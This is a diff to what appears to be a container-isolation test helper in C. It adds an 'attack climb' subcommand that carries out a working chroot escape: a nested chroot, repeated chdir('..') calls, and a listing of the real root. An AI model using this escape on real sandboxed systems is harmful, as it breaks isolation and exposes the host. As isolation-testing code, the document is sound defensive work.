@@ -6,6 +6,7 @@
  *	attack join SECONDS         descriptors, memory and control of a process that joins us (CVE-2016-9962)
  *	attack swap A B SECONDS     exchange two names without rest (CVE-2021-30465)
  *	attack wait SOCKET          listen, say "listening", and hold whoever connects
+ *	attack climb                leave a chroot by a second one and "..", and list what is above
  *	attack spoil MEGABYTES      write to memory, then give it back, twice
  */
 #define _GNU_SOURCE
@@ -410,11 +411,27 @@ static int spoil(size_t megabytes)
 	return 0;
 }
 
+static int climb(void)
+{
+	mkdir("/inner", 0755);
+	if (chroot("/inner") < 0)
+		return errno;
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			return errno;
+	DIR *top = chroot(".") < 0 ? NULL : opendir("/");
+	for (struct dirent *row; top && (row = readdir(top));)
+		printf("%s\n", row->d_name);
+	return top ? 0 : errno;
+}
+
 int main(int argc, char **argv)
 {
 	const char *what = argc > 1 ? argv[1] : "";
 	if (!strcmp(what, "calls"))
 		return try_calls();
+	if (!strcmp(what, "climb"))
+		return climb();
 	if (!strcmp(what, "devices"))
 		return try_devices();
 	if (!strcmp(what, "exe") && argc == 3)
